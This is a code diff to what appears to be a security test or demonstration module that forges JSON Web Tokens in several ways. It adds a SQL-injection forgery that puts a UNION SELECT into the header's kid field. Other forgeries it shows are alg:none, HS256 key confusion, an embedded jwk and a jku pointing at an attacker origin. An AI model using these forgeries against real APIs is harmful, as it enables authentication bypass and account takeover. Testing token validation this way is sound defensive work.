@@ -1,4 +1,4 @@
-/** What is made of a token that the attacker has come by, in seven ways. Nothing here knows the issuer's private key. */
+/** What is made of a token that the attacker has come by, in eight ways. Nothing here knows the issuer's private key. */
 import { EVIL_ORIGIN } from "@/lib/cast/attacked";
 import { textIn, utf8 } from "@/lib/crypto/bytes";
 import { hs256 } from "@/lib/crypto/hs256";
@@ -32,6 +32,11 @@ export const variants = [
 		"jku",
 		"points to its own key",
 		"The attacker signs with its own key, and says in the header where the public half lies.",
+	),
+	variant(
+		"kid",
+		"writes a query into kid",
+		"The attacker signs with its own key, and has the API's own look-up bring the public half back.",
 	),
 	variant(
 		"audience",
@@ -72,6 +77,8 @@ async function signed(token: string, key: RsaKey): Promise<string> {
 const withKey = (token: string, { exp, key }: Known, member: Readonly<Record<string, Json>>): Promise<string> =>
 	signed(written(written(token, "payload", { exp }), "header", { kid: key.kid, ...member }), key);
 
+const publicHalf = ({ kty, n, e }: RsaKey) => ({ kty, n, e });
+
 const forge: Readonly<Record<string, Forge>> = {
 	none: (token, { exp }) =>
 		replaceSegment(written(written(token, "payload", { exp }), "header", { alg: "none" }), "signature", ""),
@@ -80,11 +87,10 @@ const forge: Readonly<Record<string, Forge>> = {
 		const input = text.slice(0, text.lastIndexOf("."));
 		return `${input}.${hs256(input, utf8(publicKeyPem(issuerKey)))}`;
 	},
-	jwk: (token, known) => {
-		const { kty, n, e } = known.key;
-		return withKey(token, known, { jwk: { kty, n, e } });
-	},
+	jwk: (token, known) => withKey(token, known, { jwk: publicHalf(known.key) }),
 	jku: (token, known) => withKey(token, known, { jku: `${EVIL_ORIGIN}${KEYS_PATH}` }),
+	// The first quotation mark ends the text that the API looks for. What follows is a query of the attacker's.
+	kid: (token, known) => withKey(token, known, { kid: `x' UNION SELECT '${JSON.stringify(publicHalf(known.key))}` }),
 };
 
 /** How a variant forges; `undefined` where it takes a token as it was issued. */
